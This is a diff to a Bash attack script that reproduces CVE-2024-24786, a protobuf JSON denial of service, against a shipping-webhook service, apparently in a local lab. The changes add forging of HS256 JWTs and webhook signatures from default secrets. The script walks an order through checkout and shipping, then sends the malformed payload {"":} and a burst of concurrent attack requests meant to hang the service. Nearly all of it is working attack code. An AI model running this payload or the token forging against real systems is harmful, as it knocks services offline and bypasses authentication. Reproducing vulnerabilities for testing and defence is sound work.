@@ -6,13 +6,19 @@
 #
 # Trigger payload: {"":}
 #
-# Usage: ./attack.sh [base_url] [webhook_secret]
+# Usage: ./attack.sh [base_url] [webhook_secret] [jwt_secret]
+#
+# API pozivi se autentifikuju HS256 tokenima potpisanim sa AUTH_JWT_SECRET
+# servisa; webhook-ovi se potpisuju u formatu "t=<ts>,v1=<hmac>"
+# (HMAC-SHA256 nad "<ts>.<sirovo tijelo>"). Podrazumijevane vrijednosti su
+# iz docker-compose.yml.
 #
 
 set -euo pipefail
 
 BASE_URL="${1:-http://localhost:8080}"
 WEBHOOK_SECRET="${2:-super-secret-webhook-key-2024}"
+JWT_SECRET="${3:-dev-only-jwt-secret-change-me-0123456789}"
 MAX_RETRIES=5
 ATTACK_TIMEOUT=8
 CONCURRENT_ATTACKS=5
@@ -23,6 +29,25 @@ YELLOW='\033[1;33m'
 CYAN='\033[0;36m'
 NC='\033[0m'
 
+b64url() { openssl base64 -A | tr '+/' '-_' | tr -d '='; }
+
+# mint_token <claims json> — HS256 JWT potpisan sa JWT_SECRET
+mint_token() {
+    local header payload sig
+    header=$(printf '%s' '{"alg":"HS256","typ":"JWT"}' | b64url)
+    payload=$(printf '%s' "$1" | b64url)
+    sig=$(printf '%s' "$header.$payload" | openssl dgst -sha256 -hmac "$JWT_SECRET" -binary | b64url)
+    printf '%s.%s.%s' "$header" "$payload" "$sig"
+}
+
+# sign_webhook <sirovo tijelo> — vrijednost X-Webhook-Signature zaglavlja
+sign_webhook() {
+    local ts sig
+    ts=$(date +%s)
+    sig=$(printf '%s.%s' "$ts" "$1" | openssl dgst -sha256 -hmac "$WEBHOOK_SECRET" 2>/dev/null | awk '{print $NF}')
+    printf 't=%s,v1=%s' "$ts" "$sig"
+}
+
 echo ""
 echo "=== CVE-2024-24786 Attack (Shipping Webhook v2 — Protobuf JSON DoS) ==="
 echo "Target: $BASE_URL"
@@ -36,23 +61,30 @@ if ! curl -sf "$BASE_URL/health" > /dev/null 2>&1; then
 fi
 echo -e "${GREEN}0. Servis je aktivan${NC}"
 
+EXP=$(( $(date +%s) + 3600 ))
+CUSTOMER="Authorization: Bearer $(mint_token "{\"sub\":\"victim_proto\",\"role\":\"customer\",\"exp\":$EXP}")"
+FULFILLMENT="Authorization: Bearer $(mint_token "{\"sub\":\"warehouse_1\",\"role\":\"fulfillment\",\"exp\":$EXP}")"
+CARRIER="Authorization: Bearer $(mint_token "{\"sub\":\"carrier_1\",\"role\":\"carrier\",\"exp\":$EXP}")"
+PAYMENT="Authorization: Bearer $(mint_token "{\"sub\":\"psp_1\",\"role\":\"payment\",\"exp\":$EXP}")"
+
 # ── 1) Kreiranje porudžbine ──────────────────────────────────────────────────
 RESP=$(curl -s -X POST "$BASE_URL/orders" \
-    -H "Content-Type: application/json" \
-    -d '{"customer_id":"victim_proto","items":[{"product_id":"phone-01","quantity":1,"price":999.99}]}')
+    -H "$CUSTOMER" -H "Content-Type: application/json" \
+    -d '{"customer_id":"victim_proto","items":[{"product_id":"phone-01","quantity":1,"price":{"amount":99999,"currency":"EUR"}}]}')
 
 ORDER_ID=$(echo "$RESP" | jq -r '.order_id // empty')
 if [ -z "$ORDER_ID" ]; then
     echo -e "${RED}ERROR: nije moguće kreirati porudžbinu${NC}"
     exit 1
 fi
-TOTAL=$(echo "$RESP" | jq -r '.total')
-echo "1. Kreirana porudžbina $ORDER_ID (total=\$$TOTAL)"
+TOTAL=$(echo "$RESP" | jq -r '"\(.total.amount / 100) \(.total.currency)"')
+echo "1. Kreirana porudžbina $ORDER_ID (total=$TOTAL)"
 
 # ── 2) Plaćanje ──────────────────────────────────────────────────────────────
+curl -s -o /dev/null -X POST "$BASE_URL/orders/$ORDER_ID/checkout" -H "$CUSTOMER"
 for attempt in $(seq 1 $MAX_RETRIES); do
     PAY_CODE=$(curl -s -o /dev/null -w "%{http_code}" -X POST "$BASE_URL/orders/$ORDER_ID/pay" \
-        -H "Content-Type: application/json" \
+        -H "$PAYMENT" -H "Content-Type: application/json" \
         -d '{"payment_id":"pay_proto_001"}')
     [ "$PAY_CODE" = "200" ] && break
     sleep 1
@@ -64,8 +96,11 @@ fi
 echo "2. Porudžbina plaćena"
 
 # ── 3) Isporuka ──────────────────────────────────────────────────────────────
+SHIPMENT_ID="SH-$(echo "$ORDER_ID" | cut -c1-8)"
 for attempt in $(seq 1 $MAX_RETRIES); do
-    SHIP_CODE=$(curl -s -o /dev/null -w "%{http_code}" -X POST "$BASE_URL/orders/$ORDER_ID/ship")
+    SHIP_CODE=$(curl -s -o /dev/null -w "%{http_code}" -X POST "$BASE_URL/orders/$ORDER_ID/ship" \
+        -H "$FULFILLMENT" -H "Content-Type: application/json" \
+        -d "{\"shipment_id\":\"${SHIPMENT_ID}\"}")
     [ "$SHIP_CODE" = "200" ] && break
     sleep 1
 done
@@ -77,25 +112,25 @@ echo "3. Porudžbina poslata (state=SHIPPING)"
 
 # ── 4) Validan v2 webhook (kontrolni korak) ──────────────────────────────────
 TIMESTAMP=$(date +%s)
-SHIPMENT_ID="SH-$(echo "$ORDER_ID" | cut -c1-8)"
 
 INNER_EVENT=$(jq -nc \
+  --arg eid "evt-${SHIPMENT_ID}-1" \
   --arg sid "$SHIPMENT_ID" \
   --arg oid "$ORDER_ID" \
   --arg et "status_update" \
   --arg st "IN_TRANSIT" \
   --argjson ts "$TIMESTAMP" \
-  '{shipment_id:$sid,order_id:$oid,event_type:$et,status:$st,timestamp:$ts}')
+  '{event_id:$eid,shipment_id:$sid,order_id:$oid,event_type:$et,status:$st,timestamp:$ts}')
 
 LEGIT_PAYLOAD=$(jq -nc \
   --arg t "type.googleapis.com/google.protobuf.StringValue" \
   --arg v "$INNER_EVENT" \
   '{"@type":$t,value:$v}')
 
-LEGIT_SIG=$(printf '%s' "$LEGIT_PAYLOAD" | openssl dgst -sha256 -hmac "$WEBHOOK_SECRET" 2>/dev/null | awk '{print $NF}')
+LEGIT_SIG=$(sign_webhook "$LEGIT_PAYLOAD")
 
 LEGIT_CODE=$(curl -s -o /dev/null -w "%{http_code}" -X POST "$BASE_URL/webhooks/shipping/v2" \
-    -H "Content-Type: application/json" \
+    -H "$CARRIER" -H "Content-Type: application/json" \
     -H "X-Webhook-Signature: $LEGIT_SIG" \
     -d "$LEGIT_PAYLOAD")
 
@@ -109,7 +144,7 @@ fi
 # ── 5) Napadački payload: {"":} ──────────────────────────────────────────────
 
 MALFORMED_PAYLOAD='{"":}'
-MAL_SIG=$(printf '%s' "$MALFORMED_PAYLOAD" | openssl dgst -sha256 -hmac "$WEBHOOK_SECRET" 2>/dev/null | awk '{print $NF}')
+MAL_SIG=$(sign_webhook "$MALFORMED_PAYLOAD")
 
 echo ""
 echo -e "${CYAN}5. Slanje napadačkog payload-a: ${MALFORMED_PAYLOAD}${NC}"
@@ -120,7 +155,7 @@ set +e
 ATTACK_START=$(date +%s%N)
 
 ATTACK_RAW=$(curl -sS --max-time "$ATTACK_TIMEOUT" -w "\n%{http_code}" -X POST "$BASE_URL/webhooks/shipping/v2" \
-    -H "Content-Type: application/json" \
+    -H "$CARRIER" -H "Content-Type: application/json" \
     -H "X-Webhook-Signature: $MAL_SIG" \
     -d "$MALFORMED_PAYLOAD" 2>&1)
 ATTACK_EXIT=$?
@@ -166,7 +201,7 @@ if [ "$VULNERABLE" = "true" ]; then
     for i in $(seq 1 $CONCURRENT_ATTACKS); do
         curl -sS --max-time "$ATTACK_TIMEOUT" -o /dev/null \
             -X POST "$BASE_URL/webhooks/shipping/v2" \
-            -H "Content-Type: application/json" \
+            -H "$CARRIER" -H "Content-Type: application/json" \
             -H "X-Webhook-Signature: $MAL_SIG" \
             -d "$MALFORMED_PAYLOAD" 2>/dev/null &
         PIDS+=($!)